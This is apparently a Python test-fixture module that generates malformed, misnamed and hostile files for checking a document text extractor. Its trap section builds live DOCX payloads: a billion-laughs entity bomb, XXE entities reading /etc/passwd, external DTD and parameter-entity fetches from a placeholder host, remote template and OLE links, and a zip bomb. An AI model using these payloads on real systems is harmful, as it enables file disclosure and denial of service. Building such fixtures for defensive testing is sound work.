"""Files that are no articles, and articles that look as if they were none.

``bad_files`` makes more than 120 that nothing can be read from: cut off, encrypted, empty, under
a wrong name, bombs, traps, damaged inside. ``odd_files`` are strange and can be read. They are
the same at every call, times and keys inside some formats aside, and none is larger than it must
be to do its harm.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from itertools import chain

import docx
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

WORDS = "The council opened a workshop where neighbours mend their bicycles together."
_W = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_PNG = b"\x89PNG\r\n\x1a\n" + zlib.compress(bytes(range(256)) * 40)
_SOURCE = "file:///etc/passwd"


def good_pdf(*pages: str, key: str | None = None, algorithm: str = "AES-256") -> bytes:
    """A PDF with one line of Helvetica a page, encrypted with ``key`` where one is given."""
    writer = PdfWriter()
    names = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    font = DictionaryObject({NameObject(k): NameObject(v) for k, v in names.items()})
    for words in pages:
        page = writer.add_blank_page(width=595, height=842)
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 12 Tf 72 720 Td ({words}) Tj ET".encode("latin-1"))
        fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
        page[NameObject("/Contents")] = writer._add_object(content)
    if key is not None:
        writer.encrypt(key, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def good_docx(*paragraphs: str) -> bytes:
    """A Word file of these paragraphs."""
    document = docx.Document()
    for paragraph in paragraphs:
        document.add_paragraph(paragraph)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def repacked(raw: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """A Word file with each part passed through ``change``; None leaves the part out."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(raw)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            if (part := change(member.filename, source.read(member))) is not None:
                target.writestr(member.filename, part)
    return out.getvalue()


def bad_files() -> dict[str, bytes]:
    """Name → bytes of files that no text can be had from, larger ones last."""
    return dict(chain(_pdfs(), _word_files(), _pages(), _texts(), _tables(), _misnamed(), _bombs()))


def traps() -> dict[str, bytes]:
    """Those of the bad files that are made to hurt whoever opens them."""
    return dict(_bombs())


def odd_files() -> dict[str, bytes]:
    """Name → bytes of files that look wrong and hold ``WORDS`` all the same."""
    words = WORDS.encode()
    accented = f"{WORDS} Fête à côté de la forêt, Straße, łódź."
    return {
        "odd/bom.txt": b"\xef\xbb\xbf" + words,
        "odd/utf-16.txt": WORDS.encode("utf-16"),
        "odd/utf-16-be.txt": b"\xfe\xff" + WORDS.encode("utf-16-be"),
        "odd/utf-32.txt": WORDS.encode("utf-32"),
        "odd/latin-1.txt": f"{WORDS} Fête à côté de la forêt.".encode("latin-1"),
        "odd/cp1252.txt": f"{WORDS} “Œuvre” – 5 €.".encode("cp1252"),
        "odd/iso-8859-2.txt": accented.replace("à", "a")
        .replace("ê", "e")
        .encode("iso-8859-2", "replace"),
        "odd/broken-utf-8.txt": (words + b" ") * 9
        + "Fête ".encode() * 9
        + b" \xff\xc3( \xed\xa0\x80 "
        + words,
        "odd/nul.txt": b"\0".join([words] * 3),
        "odd/controls.txt": b"\x01\x02\x1b[31m" + words + b"\x07\x08",
        "odd/surrogate.jsonl": b'{"text": "\\ud800 ' + words + b' \\udfff"}\n',
        "odd/bidi.txt": f"\u202e{WORDS}\u202c \u200b\ufeff{WORDS}".encode(),
        "odd/line-ends.txt": f"{WORDS}\r{WORDS}\r\n{WORDS}\u2028{WORDS}\x85{WORDS}".encode(),
        "odd/frames.txt": f'{{"done": true}}\n{{"ready": true}}\n{WORDS}\n'.encode(),
        "odd/long-line.txt": (words + b" ") * 12_000,
        "odd/deep.html": b"<div>" * 20_000 + words,
        "odd/deep-closed.html": b"<div>" * 3_000 + words + b"</div>" * 3_000,
        "odd/unclosed.html": b"<html><body><p>" + words + b"<p>" + words,
        "odd/hyperlink.docx": _linked("hyperlink"),
        "odd/empty-paragraphs.docx": good_docx(*[""] * 300, WORDS),
        "odd/open-password.pdf": good_pdf(WORDS, key=""),
        "odd/aliases.md": b"---\na: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n---\n\n" + words,
        "odd/half-table.csv": f'title,text\nOne,"{WORDS}"\nTwo\n'.encode(),
        "odd/half-table.jsonl": f'{{"text": "{WORDS}"}}\nnot json\n'.encode(),
    }


def _pdfs() -> Iterator[tuple[str, bytes]]:
    whole = good_pdf(WORDS, WORDS)
    for part in range(10):
        yield f"pdf/cut-{part}.pdf", whole[: 9 + part * 25]
    for number, (key, algorithm) in enumerate(
        [("k", "AES-256"), ("secret", "AES-128"), ("k" * 30, "RC4-128"), ("ä", "AES-256")]
    ):
        yield f"pdf/encrypted-{number}.pdf", good_pdf(WORDS, key=key, algorithm=algorithm)
    yield "pdf/scanned-1.pdf", good_pdf("")
    yield "pdf/scanned-9.pdf", good_pdf(*[""] * 9)
    yield "pdf/no-pages.pdf", good_pdf()
    yield "pdf/no-xref.pdf", whole[: whole.rindex(b"xref")].replace(b"obj", b"obX")
    yield (
        "pdf/xref-nowhere.pdf",
        whole.replace(b"startxref", b"startxref\n999999999 %").replace(b" obj", b" obX"),
    )
    yield (
        "pdf/xref-of-itself.pdf",
        b"%PDF-1.7\nxref\n0 1\ntrailer\n<< /Prev 9 >>\nstartxref\n9\n%%EOF",
    )
    yield (
        "pdf/pages-of-themselves.pdf",
        (
            b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [2 0 R] /Count 1 >>\nendobj\n"
            b"trailer\n<< /Root 1 0 R >>\n%%EOF"
        ),
    )
    yield "pdf/header-only.pdf", b"%PDF-1.7\n" + bytes(999)
    yield "pdf/empty.pdf", b""
    for seed in range(5):
        chance = random.Random(seed)  # noqa: S311 - repeatable noise, not a secret
        yield f"pdf/noise-{seed}.pdf", b"%PDF-1.5\n" + chance.randbytes(3_000)


def _word_files() -> Iterator[tuple[str, bytes]]:
    whole = good_docx(WORDS, WORDS)
    for part in range(1, 13):
        yield f"docx/cut-{part:02}.docx", whole[: len(whole) * part // 13]
    body = whole.index(b"word/document.xml") + 60
    for number in range(6):
        spoilt = bytearray(whole)
        spoilt[body + 40 * number : body + 40 * number + 30] = bytes(30)
        yield f"docx/spoilt-{number}.docx", bytes(spoilt)
    yield "docx/empty.docx", b""
    yield "docx/no-words.docx", good_docx()
    yield "docx/old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 100
    yield "docx/empty-zip.docx", b"PK\x05\x06" + bytes(18)
    yield (
        "docx/no-document.docx",
        repacked(whole, lambda name, part: None if name == "word/document.xml" else part),
    )
    yield (
        "docx/no-types.docx",
        repacked(whole, lambda name, part: None if name == "[Content_Types].xml" else part),
    )
    for number, xml in enumerate(
        [
            b"",
            b"<w:document",
            b"not xml",
            b"<a/>" + bytes(20),
            b"\xff\xfe<\0a\0",
            b"<?xml version='9'?>",
        ]
    ):
        yield (
            f"docx/broken-xml-{number}.docx",
            repacked(
                whole,
                lambda name, part, xml=xml: xml if name == "word/document.xml" else part,  # type: ignore[misc]  # a default that binds
            ),
        )
    yield "docx/encrypted.docx", _flagged(whole)


def _flagged(raw: bytes) -> bytes:
    """Every member of the zip says that it is encrypted."""
    spoilt = bytearray(raw)
    for mark, place in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = spoilt.find(mark)
        while at >= 0:
            spoilt[at + place] |= 1
            at = spoilt.find(mark, at + 4)
    return bytes(spoilt)


def _pages() -> Iterator[tuple[str, bytes]]:
    for name, body in {
        "empty": b"",
        "tags-only": b"<html><body><div></div></body></html>",
        "script-only": b"<script>var words = 'none of these';</script>",
        "comment-only": b"<!-- nothing -->",
        "image-only": b"<img src='a.png'>",
        "deep-and-empty": b"<div>" * 20_000,
        "broken-condition": b"<![if gte mso 9]><p>" * 3,
        "spaces": b" \n\t " * 99,
    }.items():
        yield f"html/{name}.html", body


def _texts() -> Iterator[tuple[str, bytes]]:
    for name, body in {
        "empty": b"",
        "spaces": b" \r\n\t\x0b\x0c " * 99,
        "nul": bytes(999),
        "bom": b"\xef\xbb\xbf",
        "bom-16": b"\xff\xfe",
        "controls": bytes(range(1, 9)) * 9,
        "joiners": "\u200b\u200d\ufeff\u2060".encode() * 9,
        "dots": b"... --- ... !!! ???\n" * 9,
    }.items():
        yield f"text/{name}.txt", body
        yield f"text/{name}.md", body
    yield "text/front-matter-only.md", b"---\ntitle: All there is\n---\n"


def _tables() -> Iterator[tuple[str, bytes]]:
    for name, body in {
        "empty": b"",
        "header-only": b"title,text\n",
        "no-text-column": b"name,colour\nOne,red\n",
        "empty-rows": b"title,text\nOne,\nTwo,\n",
        "nul": bytes(99),
        "unclosed": b'title,text\n"One,' + b"x" * 300_000,
        "spaces": b"  \n \n",
    }.items():
        yield f"rows/{name}.csv", body
    deep = b'{"text": ' + b"[" * 50_000
    for name, body in {
        "empty": b"",
        "not-json": b"words, words\n",
        "number": b"7\n",
        "list": b'["text", "words"]\n',
        "null": b"null\n",
        "no-text": b'{"title": "One"}\n',
        "text-is-a-number": b'{"text": 7}\n',
        "text-is-a-list": b'{"text": ["words"]}\n',
        "empty-text": b'{"text": ""}\n',
        "cut": json.dumps({"text": WORDS}).encode()[:-9],
        "deep": deep,
        "huge-number": b'{"text": ' + b"9" * 100_000 + b"}",
        "nul": bytes(99),
    }.items():
        yield f"rows/{name}.jsonl", body


def _misnamed() -> Iterator[tuple[str, bytes]]:
    """What is right under its own name is not under another."""
    word, pdf = good_docx(WORDS), good_pdf(WORDS)
    contents = {
        "a-text": WORDS.encode(),
        "a-page": f"<p>{WORDS}</p>".encode(),
        "a-picture": _PNG,
        "packed": gzip.compress(WORDS.encode(), mtime=0),
        "a-pdf": pdf,
        "a-word-file": word,
        "a-database": b"SQLite format 3\0" + bytes(4080),
    }
    for name, content in contents.items():
        for suffix in (".pdf", ".docx", ".jsonl"):
            if (name, suffix) not in (("a-pdf", ".pdf"), ("a-word-file", ".docx")):
                yield f"misnamed/{name}{suffix}", content


def _linked(kind: str) -> bytes:
    link = (
        f'<Relationship Id="rId99" TargetMode="External" Target="http://192.0.2.1/x" Type='
        f'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
    ).encode()
    return repacked(
        good_docx(WORDS),
        lambda name, part: (
            part.replace(b"</Relationships>", link + b"</Relationships>")
            if name == "word/_rels/document.xml.rels"
            else part
        ),
    )


def _bombs() -> Iterator[tuple[str, bytes]]:
    whole = good_docx(WORDS)

    def with_body(xml: bytes) -> bytes:
        return repacked(
            whole,
            lambda name, part: (
                part.replace(b"<w:sectPr", xml + b"<w:sectPr", 1)
                if name == "word/document.xml"
                else part
            ),
        )

    def with_types(declared: bytes, encoding: str = "utf-8") -> bytes:
        def change(name: str, part: bytes) -> bytes:
            if name != "word/document.xml":
                return part
            head = b"<?xml version='1.0'?>" + declared
            changed = head + part.split(b"?>", 1)[1].replace(b"The council", b"&e; council")
            return changed.decode().encode(encoding)

        return repacked(whole, change)

    laughs = b"".join(
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10 if n else b"ha") for n in range(12)
    )
    yield "trap/laughs.docx", with_types(b"<!DOCTYPE d [" + laughs + b'<!ENTITY e "&l11;">]>')
    yield "trap/quadratic.docx", with_types(b'<!DOCTYPE d [<!ENTITY e "' + b"x" * 50_000 + b'">]>')
    yield "trap/xxe.docx", with_types(f'<!DOCTYPE d [<!ENTITY e SYSTEM "{_SOURCE}">]>'.encode())
    yield (
        "trap/xxe-16.docx",
        with_types(f'<!DOCTYPE d [<!ENTITY e SYSTEM "{_SOURCE}">]>'.encode(), "utf-16"),
    )
    yield "trap/dtd.docx", with_types(b'<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd">')
    yield (
        "trap/parameter.docx",
        with_types(b'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>'),
    )
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        yield f"trap/outside-{kind}.docx", _linked(kind)
    yield "trap/paragraphs.docx", with_body(b"<w:p/>" * 1_000_000)
    yield "trap/comment.docx", with_body(b"<!--" + b" " * 2**27 + b"-->")
    yield "trap/depth.docx", with_body(b"<w:sdt>" * 50_000 + b"</w:sdt>" * 50_000)
    zeros = io.BytesIO()
    with zipfile.ZipFile(zeros, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(4):
            bomb.writestr(f"word/part{number}.xml", bytes(60_000_000))
        bomb.writestr("word/document.xml", b"<w:p/>")
    yield "trap/zip.docx", zeros.getvalue()
